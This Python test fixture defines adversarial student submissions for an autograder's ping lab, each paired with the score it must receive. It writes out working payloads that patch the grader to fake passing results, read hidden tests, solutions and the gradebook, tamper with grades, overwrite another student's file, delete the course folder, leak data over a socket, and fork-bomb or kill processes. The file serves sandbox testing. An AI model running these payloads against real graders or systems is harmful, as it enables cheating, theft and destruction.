"""Careless and cheating submissions of the ping lab, with the exact score each must get.

Each attack starts from the reference solution or from the blank stub and adds
code: at import (appended to the module), inside a handler, or, under nbgrader
only, in notebook cells. Placeholders name what an attacker would go after,
given as absolute paths (the strongest attacker knows where everything is):
``{hidden}`` the hidden tests, ``{solution}`` a reference solution,
``{gradebook}`` the course's gradebook, ``{victim}`` another student's
submitted module, ``{course}`` the course folder, ``{port}`` a TCP port on
127.0.0.1 where the test listens. The points are the ping lab's (55 in all):
an attack that only tries to read, write or break what is outside its box
keeps the score of the code it started from.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
PING_REFERENCE = ROOT / "solutions" / "ping" / "ping_server.py"
PING_STUB = ROOT / "notebooks" / "source" / "tour" / "ping_server.py"
FULL_MARKS = 55

SERVER_HANDLER = "        self.send(PongReply(self.app.execute(message.ping)), sender)"
CLIENT_RESULT = "        return self.pong is not None"


@dataclass(frozen=True)
class Attack:
    """One submission: its base, what it adds, and the score it must get."""

    name: str
    base: str  # "reference" or "stub"
    points: int
    appended: str = ""  # code run when the module is imported
    replaced: tuple[tuple[str, str], ...] = ()  # (reference text, new text) edits
    cells: tuple[str, ...] = ()  # notebook cells added after the first code cell (nbgrader only)
    notebook: str = ""  # a named edit of the notebook's own cells (nbgrader only)
    note: str = ""
    tags: frozenset[str] = field(default_factory=frozenset)

    @property
    def module_attack(self) -> bool:
        """Whether the attack is in the module (so ``labkit test`` can run it too)."""
        return not self.cells and not self.notebook

    def source(self, places: dict[str, str]) -> str:
        """The submitted module, with the placeholders filled."""
        text = (PING_REFERENCE if self.base == "reference" else PING_STUB).read_text()
        for old, new in self.replaced:
            assert text.count(old) == 1, f"{self.name}: {old!r} is not in the {self.base} exactly once"
            text = text.replace(old, _fill(new, places))
        return text + ("\n\n" + _fill(self.appended, places) if self.appended else "")

    def added_cells(self, places: dict[str, str]) -> list[str]:
        return [_fill(cell, places) for cell in self.cells]


def _fill(text: str, places: dict[str, str]) -> str:
    for key, value in places.items():
        text = text.replace("{" + key + "}", value)
    return text


def _handler(code: str) -> tuple[tuple[str, str], ...]:
    """Run ``code`` in the server's request handler, before it replies."""
    return ((SERVER_HANDLER, code + "\n" + SERVER_HANDLER),)


PRINT_SECRETS = """
def _leak():
    for path in ("{hidden}", "{solution}", "{gradebook}", "{victim}"):
        try:
            with open(path, "rb") as f:
                print(f.read().decode("utf-8", "replace"))
        except BaseException as error:
            print("could not read", path, type(error).__name__)
_leak()
"""

ATTACKS: list[Attack] = [
    # ---- cheating: make the stub pass by changing the grader ---------------------------------------
    Attack("patch_check_test", "stub", 0, """
import labkit.testing.calls as _calls
import labkit.testing as _testing
_calls.check_test = _testing.check_test = lambda *args, **kwargs: None
"""),
    Attack("wrap_run_one", "stub", 0, """
import labkit.testing.runner as _runner
_real = _runner.run_one
def _passing(spec, *args, **kwargs):
    result = _real(spec, *args, **kwargs)
    result.passed, result.points_earned, result.failure = True, result.points_available, None
    return result
_runner.run_one = _passing
"""),
    Attack("patch_test_context", "stub", 0, """
from labkit.testing.context import TestContext
TestContext.require = lambda self, *args, **kwargs: None
TestContext.fail = lambda self, *args, **kwargs: None
TestContext.check = lambda self, *args, **kwargs: None
"""),
    Attack("patch_assertion_error", "stub", 0, """
import builtins
class _Quiet(BaseException):
    pass
builtins.AssertionError = _Quiet
builtins.NotImplementedError = _Quiet
"""),
    Attack("swap_sys_modules", "stub", 0, """
import sys, types
_fake = types.ModuleType("labkit.testing")
_fake.check_test = _fake.run_tests = lambda *args, **kwargs: None
sys.modules["labkit.testing"] = sys.modules["labkit.testing.calls"] = _fake
"""),
    Attack("empty_the_lab", "stub", 0, """
from labkit.labs.ping.tests import LAB
LAB.tests.clear()
"""),
    Attack("patch_simulator_and_predicates", "stub", 0, """
import labkit.check.predicates as _predicates
from labkit.sim.simulator import Simulation
Simulation.run_until_done = lambda self, *args, **kwargs: True
for _name in dir(_predicates):
    if _name.isupper():
        setattr(_predicates, _name, lambda *args, **kwargs: (True, "ok"))
"""),
    Attack("patch_ipython", "stub", 0, """
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda *args, **kwargs: None
    InteractiveShell.run_cell = lambda *args, **kwargs: None
except ImportError:
    pass
"""),
    Attack("fake_pass_lines_and_exit", "stub", 0, """
import sys
print("TEST 1.1: Client contract [RUN] (5pts) ... PASS (0.1s)")
print("Tests passed: 7/7\\nPoints: 55/55 (100%)\\nALL PASS")
sys.exit(0)
"""),
    Attack("lying_query_methods", "reference", 0, replaced=(
        (CLIENT_RESULT, "        return True  # claims a result at once"),
    )),
    Attack("lying_eq_result", "stub", 0, """
class _Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0

def _send_command(self, command):
    self.sent = command
PingClient.send_command = _send_command
PingClient.has_result = lambda self: True
PingClient.get_result = lambda self: _Anything()
PingClient.handle_PongReply = lambda self, message, sender: None
PingClient.on_PingTimer = lambda self, timer: None
PingServer.handle_PingRequest = lambda self, message, sender: None
"""),
    Attack("forged_worker_replies", "stub", 0, """
import os
for _fd in range(3, 64):
    try:
        os.write(_fd, b'\\x00\\x00\\x00\\x10{"replies": [{"ok": true}]}' * 4)
    except OSError:
        pass
"""),
    # ---- lying search workers: a search step's answer is the judge's to check -------------------------
    Attack("worker_hides_a_change", "reference", 35, """
from labkit.worker.snapshot import Kept as _Kept

_changes = _Kept.changes

def _hiding(self, node):
    found = _changes(self, node)
    if found is None:
        return None
    changed, gone, touched = found
    changed = [(name, text) for name, text in changed if name != "pong"]
    return (changed, gone, touched) if changed or gone else None

_Kept.changes = _hiding
""", note="search steps say the client's pong did not change while its query methods answer from it: the "
          "replays from the state the judge holds give another state, so both searches fail on that"),
    Attack("worker_never_has_the_node", "reference", 35, """
from labkit.worker.host import Host as _Host

_step = _Host.op_step

def _forgetful(self, op, payloads, out):
    return _step(self, op, payloads, out) if op[-1] else {"missing": True}

_Host.op_step = _forgetful
""", note="every search step comes back as one of a node the worker does not have, even with its state "
          "sent: the searches fail at once instead of asking again forever"),
    # ---- careless, or prying: the reference plus code that must change nothing ----------------------
    Attack("stderr_and_warnings_at_import", "reference", FULL_MARKS, """
import sys, warnings
warnings.warn("this module is still being written")
sys.stderr.write("debug: loaded\\n")
print("hello from import")
"""),
    Attack("read_and_print_secrets", "reference", FULL_MARKS, PRINT_SECRETS),
    Attack("read_secrets_in_a_handler", "reference", FULL_MARKS, replaced=_handler(
        "        for path in ('{hidden}', '{solution}'):\n"
        "            try:\n"
        "                print(open(path).read())\n"
        "            except OSError:\n"
        "                pass")),
    Attack("write_the_gradebook", "reference", FULL_MARKS, """
import sqlite3
try:
    _db = sqlite3.connect("{gradebook}")
    _db.execute("UPDATE grade SET manual_score = 1000")
    _db.execute("UPDATE grade SET manual_score = 0 WHERE id IN (SELECT id FROM grade LIMIT 100)")
    _db.commit()
except Exception as error:
    print("gradebook:", type(error).__name__)
"""),
    Attack("overwrite_another_submission", "reference", FULL_MARKS, """
try:
    with open("{victim}", "w") as f:
        f.write("raise SystemExit('sabotaged')\\n")
except OSError as error:
    print("victim:", type(error).__name__)
"""),
    Attack("delete_the_course", "reference", FULL_MARKS, """
import shutil
shutil.rmtree("{course}", ignore_errors=True)
"""),
    Attack("network", "reference", FULL_MARKS, """
import socket
for _family, _where in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port}))):
    try:
        socket.create_connection(_where, timeout=1).sendall(b"leak")
    except OSError as error:
        print("network:", type(error).__name__)
try:
    _server = socket.socket()
    _server.bind(("0.0.0.0", 0))
    _server.listen()
except OSError as error:
    print("bind:", type(error).__name__)
"""),
    Attack("threads", "reference", 0, note="the box has no room for a second thread: the import fails, saying so", appended="""
import threading, time
threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
""", replaced=_handler("        import threading\n        threading.Thread(target=lambda: None).start()")),
    Attack("signal_handlers", "reference", FULL_MARKS, """
import signal
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM, signal.SIGUSR1):
    signal.signal(_sig, signal.SIG_IGN)
signal.alarm(1)
"""),
    Attack("fork_a_child", "reference", FULL_MARKS, """
import os
try:
    if os.fork() == 0:
        os._exit(0)
except OSError:
    pass
"""),
    Attack("lying_eq_in_state", "reference", FULL_MARKS, """
class _Equal:
    def __eq__(self, other):
        return True
    def __hash__(self):
        import random
        return random.getrandbits(60)

_init = PingServer.__init__
def _with_liar(self, address):
    _init(self, address)
    self.liar = _Equal()
PingServer.__init__ = _with_liar
"""),
    # ---- sabotage: broken handlers cost the tests they break, and nothing else -----------------------
    Attack("os_exit_in_a_handler", "reference", 0, replaced=_handler("        import os\n        os._exit(0)")),
    Attack("segfault_in_a_handler", "reference", 0, replaced=_handler("        import ctypes\n        ctypes.string_at(0)")),
    Attack("kill_the_process_group", "reference", 0, replaced=_handler(
        "        import os, signal\n        os.killpg(os.getpgid(0), signal.SIGKILL)")),
    Attack("kill_the_parent", "reference", 0, replaced=_handler(
        "        import os, signal\n        os.kill(os.getppid(), signal.SIGKILL)\n        raise RuntimeError('still here')")),
    Attack("fork_bomb", "reference", 0, """
import os, time
for _ in range(100_000):
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)
"""),
    Attack("endless_loop", "reference", 0, replaced=_handler("        while True:\n            pass")),
    Attack("runaway_recursion", "reference", 0, """
import sys
sys.setrecursionlimit(10**8)
def _down(n):
    return _down(n + 1) + 1
""", replaced=_handler("        _down(0)")),
    Attack("memory_bomb", "reference", 0, replaced=_handler(
        "        hoard = []\n        while True:\n            hoard.append(bytearray(50_000_000))")),
    Attack("output_flood", "reference", 0, """
print("x" * 1_100_000)
"""),
    Attack("timer_storm", "reference", 25, note="the storm starts at the first request: the run tests that go on "
           "after it are stopped when 200,000 events are pending; 1.1 ends at its first result, and the "
           "searches (no clock, bounded by states) still find what they look for", appended="""
from dataclasses import dataclass
from labkit import Timer

@dataclass(frozen=True)
class Storm(Timer):
    n: int

def _storm(self, timer):
    for i in range(10):
        self.set_timer(Storm(i), 1)
PingServer.on_Storm = _storm
""", replaced=_handler("        self.set_timer(Storm(0), 1)")),
    Attack("giant_exception_message", "reference", 0, replaced=_handler(
        "        raise RuntimeError('PASS ' * 2_000_000)")),
    Attack("exit_at_import", "reference", 0, """
import sys
sys.exit(0)
"""),
    Attack("globals_shared_between_nodes", "reference", 35, appended="""
_PONGS = {}

def _keep(self, message, sender):
    if self.ping is not None and message.pong.value == self.ping.value:
        _PONGS[self.address] = message.pong

def _send_command(self, command):
    self.ping = command
    _PONGS.pop(self.address, None)
    self.send(PingRequest(command), self.server_address)
    self.set_timer(PingTimer(command), RETRY_MILLIS)

PingClient.handle_PongReply = _keep
PingClient.send_command = _send_command
PingClient.has_result = lambda self: self.address in _PONGS
PingClient.get_result = lambda self: _PONGS[self.address]
PingClient.on_PingTimer = lambda self, timer: (
    self.send(PingRequest(timer.ping), self.server_address) or self.set_timer(timer, RETRY_MILLIS)
) if timer.ping == self.ping and self.address not in _PONGS else None
""", note="the pong is kept in a module global, not in the client: 1.5 and 1.6, where a client's timer fires "
          "after its pong arrived, replay that step from a fresh module and see it resend"),
    # ---- under nbgrader: cells added to the notebook, or its own cells edited --------------------------
    Attack("cell_patches_check_test", "stub", 0, cells=("""
import labkit.testing.calls as _calls
import labkit.testing as _testing
_calls.check_test = _testing.check_test = lambda *args, **kwargs: None
check_test = lambda *args, **kwargs: None
""",)),
    Attack("cell_patches_ipython_and_builtins", "stub", 0, cells=("""
import builtins
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
builtins.AssertionError = type("AssertionError", (BaseException,), {})
""",)),
    Attack("cell_prints_secrets", "reference", FULL_MARKS, cells=(PRINT_SECRETS,)),
    Attack("cell_writes_gradebook_and_victim", "reference", FULL_MARKS, cells=("""
import sqlite3
try:
    db = sqlite3.connect("{gradebook}")
    db.execute("UPDATE grade SET manual_score = 1000")
    db.commit()
except Exception as error:
    print("gradebook:", type(error).__name__)
try:
    open("{victim}", "w").write("raise SystemExit")
except OSError as error:
    print("victim:", type(error).__name__)
""",)),
    Attack("cell_kills_the_kernel", "reference", FULL_MARKS, cells=("import os\nos._exit(1)",)),
    Attack("cell_writes_stderr", "reference", FULL_MARKS, cells=(
        "import sys, warnings\nwarnings.warn('careful')\nsys.stderr.write('oops\\n')",)),
    Attack("locked_cells_edited", "stub", 0, notebook="edit_locked"),
    Attack("graded_cells_deleted", "reference", FULL_MARKS, notebook="delete_graded"),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)
